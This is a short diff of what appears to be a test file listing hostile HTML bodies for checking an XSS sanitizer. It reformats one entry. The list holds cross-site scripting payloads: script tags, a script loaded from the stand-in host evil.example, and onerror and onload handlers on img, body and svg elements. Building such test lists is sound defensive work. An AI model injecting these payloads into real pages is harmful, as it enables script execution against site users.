@@ -142,7 +142,10 @@ HOSTILE_BODIES = [
     ("script tag", "<script>window.__pwned = 1; alert('script')</script>"),
     ("external script", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
     ("img onerror", "<img src=x onerror=\"window.__pwned=1;alert('img')\">"),
-    ("img onload on own media", '<img src="/static/img/logo.svg" onload="alert(\'onload\')">'),
+    (
+        "img onload on own media",
+        '<img src="/static/img/logo.svg" alt="Logo" onload="alert(\'onload\')">',
+    ),
     ("body onload", "<body onload=alert('body')>"),
     ("svg onload", "<svg onload=alert('svg')><circle r=5></circle></svg>"),
     ("svg script", "<svg><script>window.__pwned=1</script></svg>"),
